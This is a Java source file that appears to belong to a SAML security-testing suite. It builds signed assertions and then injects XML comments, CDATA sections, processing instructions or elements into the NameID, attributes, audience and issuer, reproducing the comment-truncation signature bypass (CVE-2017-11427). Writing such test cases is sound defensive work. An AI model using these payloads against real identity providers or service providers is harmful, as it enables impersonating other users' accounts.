package io.vestibule.protocol.saml.attack;

import static io.vestibule.protocol.saml.attack.AttackCase.attack;

import io.vestibule.protocol.saml.attack.AttackCase.Expect;
import io.vestibule.protocol.saml.toy.Draft;
import io.vestibule.protocol.saml.toy.Seal;
import java.util.List;

/**
 * Case 6: text in pieces. The attacker owns an account whose name begins with the victim's and puts, after signing, what
 * canonicalisation leaves out where the name shall end for a reader of the first text node (CVE-2017-11427 and its kin).
 */
final class Texts {
    private static final String TAIL = ".evil.example";

    private Texts() {}

    static List<AttackCase> cases() {
        return List.of(
                inName("6-comment-in-name", "a comment in the NameID", "<!-- -->"),
                inName("6-comment-empty-in-name", "an empty comment in the NameID", "<!---->"),
                inName("6-cdata-in-name", "an empty CDATA section in the NameID", "<![CDATA[]]>"),
                attack("6-comment-first-in-name", "a comment before the NameID's text", target -> {
                    return insertedBefore(target, "<!-- -->");
                }),
                attack("6-cdata-around-tail", "the tail of the NameID as CDATA", target -> {
                            return changed(target, TAIL, "<![CDATA[" + TAIL + "]]>");
                        })
                        .expect(Expect.HARMLESS),
                attack("6-instruction-in-name", "a processing instruction in the NameID, signed", target -> {
                    Draft draft = target.draft();
                    draft.rawNameId = draft.nameId + "<?x y?>" + TAIL;
                    return Message.post(draft.signed(target.key()), target);
                }),
                attack("6-element-in-name", "an element in the NameID, signed", target -> {
                    Draft draft = target.draft();
                    draft.rawNameId = draft.nameId + "<x:x xmlns:x=\"urn:x\"></x:x>" + TAIL;
                    return Message.post(draft.signed(target.key()), target);
                }),
                attack("6-comment-in-attribute", "a comment in an attribute's value", target -> {
                    return inAttribute(target, "<!-- -->");
                }),
                attack("6-cdata-in-attribute", "an empty CDATA section in an attribute's value", target -> {
                            return inAttribute(target, "<![CDATA[]]>");
                        })
                        .expect(Expect.HARMLESS),
                attack("6-comment-in-audience", "a comment in the audience", target -> {
                    Draft draft = target.draft();
                    draft.audiences = List.of(List.of(target.audience() + TAIL));
                    return Message.post(
                            draft.signed(target.key())
                                    .replace(TAIL + "</saml:Audience>", "<!-- -->" + TAIL + "</saml:Audience>"),
                            target);
                }),
                attack("6-comment-in-issuer", "a comment in the issuer", target -> {
                    Draft draft = target.draft();
                    draft.issuer = target.issuer() + TAIL;
                    draft.assertionIssuer = target.issuer() + TAIL;
                    return Message.post(draft.signed(target.key()).replace(TAIL, "<!-- -->" + TAIL), target);
                }));
    }

    private static AttackCase inName(String id, String what, String inserted) {
        return attack(id, what, target -> changed(target, TAIL, inserted + TAIL))
                .expect(Expect.HARMLESS);
    }

    private static Message changed(Target target, String old, String now) {
        Draft draft = target.draft();
        draft.nameId += TAIL;
        return Message.post(draft.signed(target.key()).replace(old, now), target);
    }

    private static Message insertedBefore(Target target, String inserted) {
        Draft draft = target.draft();
        String name = ">" + draft.nameId + TAIL + "<";
        draft.nameId += TAIL;
        return Message.post(draft.signed(target.key()).replace(name, ">" + inserted + name.substring(1)), target);
    }

    private static Message inAttribute(Target target, String inserted) {
        Draft draft = target.draft();
        draft.attributes.replaceAll(
                (name, values) -> values.stream().map(value -> value + TAIL).toList());
        String end = TAIL + "</saml:AttributeValue>";
        return Message.post(
                Seal.sign(draft.response(Seal.sign(draft.assertion(), target.key())), target.key())
                        .replace(end, inserted + end),
                target);
    }
}
